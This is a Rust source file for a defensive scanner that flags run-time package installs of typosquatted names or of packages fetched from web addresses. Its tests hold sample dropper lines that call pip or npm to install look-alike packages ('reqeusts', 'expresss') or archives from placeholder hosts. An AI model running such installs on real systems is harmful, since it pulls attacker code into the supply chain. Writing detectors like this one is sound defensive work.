//! Packages installed at run time (`pip install`, `python -m pip install`, `npm install`, `yarn add`,
//! `pnpm add`, as a command string or an argv list) whose names imitate popular packages, or that are
//! fetched from an address instead of a registry. A dropper that cannot put a typosquat (or a look-alike
//! download host) in its own dependencies installs it from code; the package-name checker
//! (`package_name.rs`) judges each name.

use super::package_name::{lookalike, Ecosystem};
use super::FileDetector;
use crate::ascii_classes::ascii_regex;
use crate::matchers::{Hit, HitDetail};
use crate::segment::Segment;
use regex::Regex;
use std::sync::LazyLock;

/// Install commands read per segment.
const MAX_COMMANDS: usize = 256;
/// Names read per command.
const MAX_NAMES: usize = 16;

pub(crate) static TYPOSQUAT_INSTALL: FileDetector = FileDetector {
    literals: &["install", "yarn", "pnpm"],
    run: find_installs,
};

// A constant pattern (its tests compile it): `expect` never sees scanned data.
#[allow(clippy::expect_used)]
static COMMAND: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(
        r"\b(pip3?|python3?\s+-m\s+pip|npm|yarn|pnpm)\s+(install|i|add)\s+([^\n'`;&|)\x22]{1,300})",
    )
    .expect("install command pattern")
});
/// An argv list: `["pip", "install", "x"]`, `[sys.executable, "-m", "pip", "install", "x"]`.
// A constant pattern (its tests compile it): `expect` never sees scanned data.
#[allow(clippy::expect_used)]
static ARGV: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(r"\[[^\[\]\n]{0,400}?['\x22](pip3?|npm|yarn|pnpm)['\x22]\s*,\s*['\x22](install|i|add)['\x22]([^\[\]\n]{0,400})\]")
        .expect("install argv pattern")
});
// A constant pattern (its tests compile it): `expect` never sees scanned data.
#[allow(clippy::expect_used)]
static QUOTED: LazyLock<Regex> =
    LazyLock::new(|| ascii_regex(r#"['"]([^'"\n]+)['"]"#).expect("quoted pattern"));

/// Packages installed at run time straight from an address (`pip install https://…/x.tar.gz`,
/// `git+https://…`, `npm install https://…/x.tgz`): outside any registry, whatever the name.
pub(crate) static INSTALL_FROM_URL: FileDetector = FileDetector {
    literals: &["install", "yarn", "pnpm"],
    run: find_url_installs,
};

fn find_installs(segment: &Segment, text: &str, keep: &mut dyn FnMut(Hit) -> bool) {
    let body = segment.text(text);
    for (start, end, ecosystem, words) in install_commands(body) {
        for word in words.iter().take(MAX_NAMES) {
            let Some(name) = package_name(word, ecosystem) else {
                continue;
            };
            let Some(imitated) = lookalike(ecosystem, &name) else {
                continue;
            };
            let hit = Hit {
                start: segment.start + start,
                end: segment.start + end,
                detail: Some(Box::new(HitDetail {
                    message: format!("installs at run time: {}", imitated.describe(&name)),
                    related: Vec::new(),
                })),
            };
            if !keep(hit) {
                return;
            }
        }
    }
}

fn find_url_installs(segment: &Segment, text: &str, keep: &mut dyn FnMut(Hit) -> bool) {
    let body = segment.text(text);
    for (start, end, _, words) in install_commands(body) {
        // The package argument is the first word that is not an option: a URL later in the text is a
        // sentence going on (`pip install -U name, then see https://…`), and one after `-i` is an index.
        let mut previous = "";
        let first = words.iter().take(MAX_NAMES).find(|w| {
            let option = w.starts_with('-') || INDEX_OPTIONS.contains(&previous);
            previous = w.as_str();
            !option
        });
        let Some(address) = first.and_then(|w| remote_source(w)) else {
            continue;
        };
        if !runs_on_its_line(body, start) {
            continue;
        }
        let hit = Hit {
            start: segment.start + start,
            end: segment.start + end,
            detail: Some(Box::new(HitDetail {
                message: format!("installs at run time from outside the registry: `{address}`"),
                related: Vec::new(),
            })),
        };
        if !keep(hit) {
            return;
        }
    }
}

/// Calls that run a command: an install command on their line is run, not quoted in a message
/// (`raise ImportError("pip install git+https://…")` is advice to the user).
const RUNNERS: &[&str] = &[
    "system(",
    "popen(",
    "Popen(",
    "run(",
    "call(",
    "check_output(",
    "getoutput(",
    "exec(",
    "execSync(",
    "spawn(",
    "spawnSync(",
    "execa(",
    "[",
];

/// Options whose value is an index or a host, not a package.
const INDEX_OPTIONS: &[&str] = &[
    "-i",
    "--index-url",
    "--extra-index-url",
    "--trusted-host",
    "--registry",
];

/// Bytes before a command, on its line, where the call that runs it is looked for (a minified bundle is one
/// line: a runner a kilobyte away is not this command's).
const RUNNER_WINDOW: usize = 120;

fn runs_on_its_line(body: &str, at: usize) -> bool {
    let line_start = body[..at].rfind('\n').map_or(0, |i| i + 1);
    let mut from = line_start.max(at.saturating_sub(RUNNER_WINDOW));
    while !body.is_char_boundary(from) {
        from += 1;
    }
    // An argv list's own `[` starts the command: it is a run whatever line calls it.
    let lead = &body[from..(at + 1).min(body.len())];
    RUNNERS.iter().any(|r| lead.contains(r))
}

/// An install argument that is an address to fetch (`https://…`, `http://…`, `git+…://…`, `name @ https://…`
/// is one word per part, so only the address is seen).
fn remote_source(word: &str) -> Option<&str> {
    let word = bare_word(word);
    let lower = word.get(..12).unwrap_or(word).to_ascii_lowercase();
    let remote = lower.starts_with("https://")
        || lower.starts_with("http://")
        || (lower.starts_with("git+") && word.contains("://"));
    (remote && word.len() > 10).then_some(word)
}

/// The install commands of a text, as (start, end, ecosystem, argument words), in order.
fn install_commands(body: &str) -> Vec<(usize, usize, Ecosystem, Vec<String>)> {
    let mut commands: Vec<(usize, usize, Ecosystem, Vec<String>)> = Vec::new();
    for c in COMMAND.captures_iter(body).take(MAX_COMMANDS) {
        let (Some(whole), Some(tool), Some(args)) = (c.get(0), c.get(1), c.get(3)) else {
            continue;
        };
        // A sentence goes on after the command (`pip install .[all] and editable installs`): its words are
        // not package names.
        let names = args
            .as_str()
            .split_whitespace()
            .take_while(|w| !PROSE_WORDS.contains(&w.to_ascii_lowercase().as_str()))
            .map(str::to_string)
            .collect();
        commands.push((
            whole.start(),
            whole.end(),
            ecosystem_of(tool.as_str()),
            names,
        ));
    }
    for c in ARGV.captures_iter(body).take(MAX_COMMANDS) {
        let (Some(whole), Some(tool), Some(rest)) = (c.get(0), c.get(1), c.get(3)) else {
            continue;
        };
        let names = QUOTED
            .captures_iter(rest.as_str())
            .filter_map(|q| q.get(1).map(|m| m.as_str().to_string()))
            .collect();
        commands.push((
            whole.start(),
            whole.end(),
            ecosystem_of(tool.as_str()),
            names,
        ));
    }
    commands.sort_by_key(|c| c.0);
    commands
}

/// Words that continue a sentence after an install command quoted in prose or a comment.
const PROSE_WORDS: &[&str] = &[
    "and", "or", "then", "to", "the", "if", "for", "with", "in", "into", "before", "after",
    "first", "is", "are", "was", "will", "can", "should", "must", "when", "so", "but", "which",
    "that",
];

fn ecosystem_of(tool: &str) -> Ecosystem {
    if tool.contains("pip") {
        Ecosystem::Pypi
    } else {
        Ecosystem::Npm
    }
}

/// An install argument without the quotes and commas around it; a string's escape (`"pip install x\n"` as
/// written in the source) ends the word.
fn bare_word(word: &str) -> &str {
    word.split('\\')
        .next()
        .unwrap_or_default()
        .trim_matches(|c| matches!(c, ',' | '\'' | '"'))
}

/// The registry name in an install argument: flags, paths, URLs and files are not names; a version
/// (`==1.2`, `>=1`, `@1.2`, `[extra]`) is cut off.
fn package_name(word: &str, ecosystem: Ecosystem) -> Option<String> {
    let word = bare_word(word);
    if word.starts_with('-')
        || word.contains("://")
        || word.starts_with('.')
        || word.starts_with('/')
        || word.starts_with('$')
        || word.starts_with('{')
        || word.ends_with(".txt")
        || word.ends_with(".whl")
        || word.ends_with(".tgz")
        || word.ends_with(".tar.gz")
    {
        return None;
    }
    let name = match ecosystem {
        Ecosystem::Pypi => word
            .split(['=', '<', '>', '!', '~', '[', ';', '@'])
            .next()
            .unwrap_or_default(),
        Ecosystem::Npm => {
            // `@scope/name@1.2` keeps its leading `@`.
            let (scope, rest) = word.strip_prefix('@').map_or(("", word), |r| ("@", r));
            let bare = rest.split('@').next().unwrap_or_default();
            return (!bare.is_empty()).then(|| format!("{scope}{bare}"));
        }
    };
    (!name.is_empty()).then(|| name.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;
    use skill_scan_model::Language;

    fn installs(text: &str, language: Language, path: &str) -> Vec<String> {
        crate::native::file_detector_messages(find_installs, text, path, language)
    }

    #[test]
    fn typosquats_installed_from_code_are_found() {
        let py = "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '-q', 'reqeusts==2.31'])\nos.system('pip install --user colourama')\n";
        let found = installs(py, Language::Python, "pkg/x.py");
        assert_eq!(found.len(), 2, "{found:?}");
        assert!(found[0].contains("`requests`"), "{found:?}");
        let js = "require('child_process').execSync('npm install --no-save expresss@4');\n";
        assert_eq!(installs(js, Language::Javascript, "lib/x.js").len(), 1);
    }

    fn url_installs(text: &str, language: Language, path: &str) -> Vec<String> {
        crate::native::file_detector_messages(find_url_installs, text, path, language)
    }

    #[test]
    fn installs_from_an_address_are_found_and_registry_names_are_not() {
        let py = "import os, sys\nos.system(f\"{sys.executable} -m pip install https://files.example.invalid/p/colour-1.0.tar.gz\")\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'git+https://git.example.invalid/x/y.git'])\n";
        let found = url_installs(py, Language::Python, "pkg/__init__.py");
        assert_eq!(found.len(), 2, "{found:?}");
        assert!(
            found[0].contains("https://files.example.invalid/p/colour-1.0.tar.gz"),
            "{found:?}"
        );
        let argv = "cmd = [sys.executable, '-m', 'pip', 'install', '-q', 'https://files.example.invalid/x-1.tar.gz']\nsubprocess.check_call(cmd)\n";
        assert_eq!(url_installs(argv, Language::Python, "pkg/x.py").len(), 1);
        let js = "require('child_process').execSync('npm install --no-save https://x.example.invalid/a.tgz');\n";
        assert_eq!(url_installs(js, Language::Javascript, "lib/x.js").len(), 1);
        let quiet = "os.system('pip install requests numpy>=1.26 -i https')\nsubprocess.run(['pip', 'install', '-r', 'requirements.txt'])\nos.system('pip install ./vendor/x-1.0.tar.gz')\nraise ImportError('the extra needs: pip install git+https://git.example.invalid/x/y.git')\nmsg = run_hint('Standalone: run pip install -U manager e reinicie (https://git.example.invalid/manager)')\nsubprocess.run(['pip', 'install', '-i', 'https://mirror.example.invalid/simple', 'requests'])\n";
        assert!(
            url_installs(quiet, Language::Python, "pkg/x.py").is_empty(),
            "{:?}",
            url_installs(quiet, Language::Python, "pkg/x.py")
        );
    }

    #[test]
    fn popular_names_files_and_flags_are_not() {
        let py = "subprocess.check_call([sys.executable, '-m', 'pip', 'install', '-r', 'requirements.txt', 'requests', 'numpy>=1.26'])\nos.system('pip install -e .')\n";
        assert!(
            installs(py, Language::Python, "pkg/x.py").is_empty(),
            "{:?}",
            installs(py, Language::Python, "pkg/x.py")
        );
        let help = "raise SystemExit(\"Run:  pip install huggingface_hub\\n\")\n# pip install .[all] and editable installs.\n";
        assert!(
            installs(help, Language::Python, "pkg/x.py").is_empty(),
            "{:?}",
            installs(help, Language::Python, "pkg/x.py")
        );
        let sentence = "os.system('pip install reqeusts and then run it')\n";
        assert_eq!(installs(sentence, Language::Python, "pkg/x.py").len(), 1);
        let sh = "npm install --save-dev typescript @types/node\nyarn add react react-dom\n";
        assert!(
            installs(sh, Language::Shell, "x.sh").is_empty(),
            "{:?}",
            installs(sh, Language::Shell, "x.sh")
        );
    }
}
